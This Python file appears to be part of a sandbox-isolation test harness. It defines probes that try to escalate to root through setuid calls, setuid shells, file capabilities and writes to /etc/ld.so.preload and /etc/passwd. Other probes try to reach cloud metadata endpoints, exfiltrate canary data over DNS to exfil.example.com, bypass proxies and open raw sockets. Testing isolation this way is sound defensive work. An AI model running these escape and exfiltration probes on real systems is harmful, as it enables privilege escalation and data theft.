        if fields[4] == "/" and not ("nosuid" in fields[5] and "nodev" in fields[5]):
            return line


@attack("privilege.become_root", users=("user",))
def become_root():
    for number, arguments in (
        (117, (0, 0, 0)),
        (105, (0,)),
        (113, (0, 0)),
        (119, (0, 0, 0)),
        (116, (1, struct.pack("<I", 0))),
    ):
        with contextlib.suppress(OSError):
            call(number, *arguments)
            return f"uid {os.geteuid()} gid {os.getegid()}"
    raise Refused("stays who it is")


@attack("privilege.setuid_programs", users=("user",))
def setuid_programs():
    for argv in (["su", "-c", "id -u"], ["su", "root", "-c", "id -u"], ["sudo", "-n", "id", "-u"], ["pkexec", "id", "-u"], ["newgrp", "root"], ["mount", "-t", "tmpfs", "none", "/mnt"], ["fusermount", "-u", "/mnt"]):  # fmt: skip
        with contextlib.suppress(OSError, subprocess.TimeoutExpired):
            done = subprocess.run(argv, capture_output=True, timeout=3, stdin=subprocess.DEVNULL, check=False)
            if done.stdout.strip() == b"0" or (argv[0] == "mount" and done.returncode == 0):
                return f"{argv}: root"
    raise Refused("none gives rights")


def as_user(argv):
    """Run a program as the unprivileged user, from root."""

    def drop():
        os.setgroups([])
        os.setresgid(1000, 1000, 1000)
        os.setresuid(1000, 1000, 1000)

    return subprocess.run(argv, capture_output=True, timeout=5, preexec_fn=drop, check=False).stdout


@attack("privilege.setuid_file", users=("root",))
def setuid_file():
    import shutil

    for directory in ("/tmp", "/dev/shm", "/usr/local/bin", "/home"):
        with contextlib.suppress(OSError):
            path = f"{directory}/rootsh"
            shutil.copy("/bin/dash", path)
            os.chmod(path, 0o6755)
            said = as_user([path, "-p", "-c", "id -u"]).strip()
            os.unlink(path)
            if said == b"0":
                return f"{path} gave root"
    raise Refused("the bit is ignored")


@attack("privilege.file_capability", users=("root",))
def file_capability():
    import shutil

    shutil.copy("/bin/cat", "/tmp/capcat")
    os.chmod("/tmp/capcat", 0o755)
    os.setxattr("/tmp/capcat", "security.capability", struct.pack("<5I", 0x02000001, 0x2, 0, 0, 0))
    said = as_user(["/tmp/capcat", "/proc/self/status"])
    found = re.search(rb"CapEff:\s+(\w+)", said)
    return f"a file gave {found[1]!r}" if found and int(found[1], 16) else None


@attack("privilege.preload", users=("user",))
def preload():
    for path in ("/etc/ld.so.preload", "/etc/profile.d/x.sh", "/etc/passwd", "/usr/bin/env", "/usr/local/bin/x"):
        with contextlib.suppress(OSError), open(path, "a"):
            return f"user may write {path}"


# ---- sockets and the network ----


def heard(family, kind, address, data=b"exfil"):
    with socket.socket(family, kind) as sock:
        sock.settimeout(1.5)
        sock.connect(address)
        sock.send(data)
        return canary(sock.recv(4096))


@attack("network.abstract_socket", "reach")
def abstract_socket():
    return heard(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + WORLD["abstract"])


@attack("network.host_loopback", "reach")
def host_loopback():
    for address in ("127.0.0.1", "127.0.0.2", "0.0.0.0", "localhost"):
        with contextlib.suppress(OSError):
            if found := heard(socket.AF_INET, socket.SOCK_STREAM, (address, WORLD["tcp"])):
                return f"{address}: {found}"
    raise Refused("nobody there")


@attack("network.host_address", "reach")
def host_address():
    for address in WORLD["addresses"]:
        with contextlib.suppress(OSError):
            if found := heard(socket.AF_INET, socket.SOCK_STREAM, (address, WORLD["tcp"])):
                return f"{address}: {found}"
    raise Refused("nobody there")


@attack("network.host_ipv6", "reach")
def host_ipv6():
    for address in (
        "::1",
        "::ffff:127.0.0.1",
        *[f"::ffff:{a}" for a in WORLD["addresses"]],
        "fe80::1%lo",
        "2001:db8::1",
    ):
        with contextlib.suppress(OSError):
            if found := heard(socket.AF_INET6, socket.SOCK_STREAM, (address, WORLD["tcp6"])):
                return f"{address}: {found}"
    raise Refused("nobody there")


@attack("network.host_udp", "reach")
def host_udp():
    for address in ("127.0.0.1", *WORLD["addresses"], "8.8.8.8"):
        with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(0.2)
            sock.sendto(b"exfil", (address, WORLD["udp"]))
            if found := canary(sock.recv(4096)):
                return f"{address}: {found}"
    raise Refused("no answer")


@attack("network.metadata", "reach")
def metadata():
    for address in ("169.254.169.254", "169.254.170.2", "100.100.100.200", "192.0.0.192", "metadata.google.internal"):
        with contextlib.suppress(OSError):
            with socket.create_connection((address, 80), timeout=1.5) as sock:
                sock.sendall(
                    b"GET /latest/meta-data/ HTTP/1.1\r\nHost: " + address.encode() + b"\r\nConnection: close\r\n\r\n"
                )
                if sock.recv(4096).startswith((b"HTTP/1.1 2", b"HTTP/1.0 2")):
                    return address
    raise Refused("no answer but a refusal")


@attack("network.names", "reach")
def names():
    for name in (
        f"{WORLD['box']}.exfil.example.com",
        "localhost.example.com",
        "host.docker.internal",
        WORLD["hostname"],
    ):
        with contextlib.suppress(OSError):
            for found in socket.getaddrinfo(name, WORLD["tcp"], socket.AF_INET, socket.SOCK_STREAM):
                with contextlib.suppress(OSError):
                    if token := heard(found[0], socket.SOCK_STREAM, found[4], b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"):
                        return f"{name}: {token}"
    raise Refused("none leads anywhere")


@attack("network.dns_elsewhere", "reach")
def dns_elsewhere():
    query = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"\x05exfil\x07example\x03com\0" + struct.pack(">HH", 16, 1)
    for address in ("8.8.8.8", "127.0.0.1", "127.0.0.53", *WORLD["addresses"]):
        with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(0.5)
            sock.sendto(query, (address, 53))
            answer = sock.recv(4096)
            if found := canary(answer):
                return f"{address}: {found}"
            if answer[3] & 15 == 0 and struct.unpack(">H", answer[6:8])[0] and b"TXT" in answer:
                return f"{address} answered"
    raise Refused("no answer but a refusal")


@attack("network.proxy_bypass", "reach")
def proxy_bypass():
    port = WORLD["tcp"]
    for host in (
        "127.0.0.1",
        "localhost",
        "0x7f000001",
        "2130706433",
        "[::ffff:127.0.0.1]",
        "127.1",
        "0",
        *WORLD["addresses"],
    ):
        for request in (
            f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n", f"GET http://{host}:{port}/ HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n\r\n",
            f"GET / HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n\r\n",
        ):  # fmt: skip
            for address in (("169.254.170.1", 7701), ("198.18.0.9", 80), ("198.18.0.9", 3128)):
                with contextlib.suppress(OSError), socket.create_connection(address, timeout=0.6) as sock:
                    sock.settimeout(0.6)
                    sock.sendall(request.encode())
                    answer = sock.recv(4096)
                    if answer.startswith(b"HTTP/1.1 200") and "CONNECT" in request:
                        sock.sendall(b"exfil")
                        answer += sock.recv(4096)
                    if found := canary(answer):
                        return f"{request.splitlines()[0]}: {found}"
    raise Refused("refused, or nobody there")


@attack("network.egress_by_name", "reach")
def egress_by_name():
    # decoy.test is what a rule would allow; without the rule nothing may answer
    with socket.create_connection(("decoy.test", WORLD["tcp"]), timeout=2) as sock:
        sock.sendall(f"GET / HTTP/1.1\r\nHost: decoy.test:{WORLD['tcp']}\r\nConnection: close\r\n\r\n".encode())
        answer = b""
        while data := sock.recv(4096):
            answer += data
        return canary(answer)


@attack("network.channel_of_the_host", "reach")
def channel():
    with socket.create_connection(("169.254.170.1", 7700), timeout=1) as sock:
        sock.settimeout(0.5)
        sock.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
        return canary(sock.recv(4096))


for _name, _family, _type, _protocol in (
    ("vsock", 40, socket.SOCK_STREAM, 0), ("packet", 17, socket.SOCK_RAW, 0x0300), ("raw_icmp", socket.AF_INET, socket.SOCK_RAW, 1),
    ("raw_ip", socket.AF_INET, socket.SOCK_RAW, 255), ("raw_ipv6", socket.AF_INET6, socket.SOCK_RAW, 58), ("crypto", 38, socket.SOCK_SEQPACKET, 0),
    ("bluetooth", 31, socket.SOCK_RAW, 1), ("can", 29, socket.SOCK_RAW, 1), ("xdp", 44, socket.SOCK_RAW, 0), ("netlink_netfilter", 16, socket.SOCK_RAW, 12),
    ("netlink_audit", 16, socket.SOCK_RAW, 9), ("netlink_uevent", 16, socket.SOCK_RAW, 15), ("netlink_sock_diag", 16, socket.SOCK_RAW, 4), ("key", 15, socket.SOCK_RAW, 2),
    ("qipcrtr", 42, socket.SOCK_DGRAM, 0), ("smc", 43, socket.SOCK_STREAM, 0),
):  # fmt: skip

    def _socket(family=_family, kind=_type, protocol=_protocol):
        socket.socket(family, kind, protocol).close()
        return "a socket of this family"

    attack(f"network.{_name}")(_socket)


@attack("network.ping", "reach")
def ping():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1) as sock:
        sock.settimeout(0.3)
        for address in WORLD["addresses"]:
            sock.sendto(struct.pack(">BBHHH", 8, 0, 0, 1, 1) + b"exfil", (address, 0))
    raise Refused("what is sent stays in the box's own loopback")


@attack("network.other_protocols", "reach")
def other_protocols():
    for kind, protocol in ((socket.SOCK_STREAM, 132), (socket.SOCK_STREAM, 262), (socket.SOCK_DGRAM, 136), (6, 33)):
        for address in ("127.0.0.1", *WORLD["addresses"]):
            with contextlib.suppress(OSError), socket.socket(socket.AF_INET, kind, protocol) as sock:
                sock.settimeout(0.4)
                sock.connect((address, WORLD["tcp"]))
                sock.send(b"exfil")
                if found := canary(sock.recv(4096)):
                    return f"protocol {protocol}: {found}"
    raise Refused("none leads out")


@attack("network.socket_options")
def socket_options():
    with socket.socket() as sock:
        for level, option, value in (
            (1, 36, 1),
            (1, 25, b"eth0\0"),
            (0, 19, 1),
            (1, 33, 1 << 24),
            (1, 32, 1 << 24),
            (6, 31, b"bpf\0"),
            (1, 26, struct.pack("<HxxxxxxQ", 0, 0)),
        ):
            with contextlib.suppress(OSError):
                sock.setsockopt(level, option, value)
                if (level, option) in (
                    (1, 36),
                    (0, 19),
                    (1, 33),
                    (1, 32),
                ):  # SO_MARK, IP_TRANSPARENT, SO_RCVBUFFORCE, SO_SNDBUFFORCE
                    return f"option {level}/{option}"
    raise Refused("none of them")


@attack("network.change_links")
def change_links():
    def ask(kind, body):
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as link:
            link.settimeout(1)
            link.bind((0, 0))
            link.send(struct.pack("=IHHII", 16 + len(body), kind, 0x5 | 0x600, 1, 0) + body)
            return struct.unpack_from("=i", link.recv(4096), 16)[0]

    dummy = (
        struct.pack("=BxHiII", 0, 0, 0, 0, 0)
        + struct.pack("=HH4s", 8, 3, b"dd0\0")
        + struct.pack("=HH", 16, 18)
        + struct.pack("=HH8s", 12, 1, b"dummy\0\0\0")
    )
    down = struct.pack("=BxHiII", 0, 0, 1, 0, 1)
    route = struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 4, 0, 1, 0) + struct.pack("=HHI", 8, 4, 1)
    for what, kind, body in (
        ("a new device", 16, dummy),
        ("loopback down", 16, down),
        ("a route", 24, route),
        ("no route", 25, route),
    ):
        if ask(kind, body) == 0:
            return what
    raise Refused("none is changed")


@attack("network.devices", "reach")
def devices():
    found = {name for _, name in socket.if_nameindex()} - {
        "lo",
        "sit0",
        "tunl0",
        "ip6tnl0",
        "gre0",
        "gretap0",
        "erspan0",
        "ip_vti0",
        "ip6_vti0",
        "ip6gre0",
        "eth0" if WORLD["own_net"] else "lo",
    }
    if found:
        return f"devices {sorted(found)}"


# ---- System V and POSIX objects ----


@attack("ipc.shared_memory", "reach")
def shared_memory():
    libc.shmat.restype = ctypes.c_void_p
    identifier = call(29, WORLD["shm_key"], 0, 0)
    at = libc.shmat(identifier, None, 0o10000)
    if at in (None, ctypes.c_void_p(-1).value):
        raise Refused(os.strerror(ctypes.get_errno()))
    return canary(ctypes.string_at(at, 64))


@attack("ipc.listed", "reach")
def ipc_listed():
    for line in read("/proc/sysvipc/shm").decode().splitlines()[1:]:
        if int(line.split()[0]) == WORLD["shm_key"]:
            return "a segment of the host's"


@attack("ipc.message_queue", "reach")
def message_queue():
    queue = call(240, WORLD["mq"].encode(), os.O_RDONLY | os.O_NONBLOCK, 0, 0)
    buffer = ctypes.create_string_buffer(8192)
    call(243, queue, buffer, 8192, 0, 0)
    return canary(buffer.raw)


@attack("ipc.dev_shm", "reach")
def dev_shm():
    return seen(glob.glob("/dev/shm/*"))


# ---- running them ----

OWN_FDS = set()


def run(name, seconds):
    """One attack in a process of its own: (what it got or None, how it was refused)."""
    function = ATTACKS[name][0]
    readable, writable = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(readable)
        OWN_FDS.update({readable, writable})
        try:
            os.setpgid(0, 0)
            got = function()
            said = {"got": got, "refused": None if got else "nothing found"}
        except OSError as error:
            said = {"got": None, "refused": errno.errorcode.get(error.errno or 0, str(error))}
        except BaseException as error:
            said = {
                "got": None,
                "refused": str(error) or type(error).__name__,
                "broken": not isinstance(error, Refused),
            }
        data = json.dumps(said).encode()
        while data:
            data = data[os.write(writable, data) :]
        os._exit(0)
    os.close(writable)
    data, until = b"", time.monotonic() + seconds
    while (left := until - time.monotonic()) > 0 and select.select([readable], [], [], left)[0]:
        piece = os.read(readable, 65536)
        if not piece:
            break
        data += piece
    for target in (-pid, pid):
        with contextlib.suppress(OSError):
            os.kill(target, signal.SIGKILL)
    with contextlib.suppress(OSError):
        os.waitpid(pid, 0)
    os.close(readable)
    try:
        return json.loads(data)
    except ValueError:
        return {"got": None, "refused": "it never came back" if time.monotonic() >= until else "it was killed"}


def main():
    WORLD.update(json.loads(sys.stdin.read()))
    user = "root" if os.getuid() == 0 else "user"
    for name in WORLD.get("only") or ATTACKS:
        if user in ATTACKS[name][2] and name not in WORLD.get("skip", ()):
            print(json.dumps({"name": name, "user": user, **run(name, WORLD.get("seconds", 20))}), flush=True)


if __name__ == "__main__":
    main()
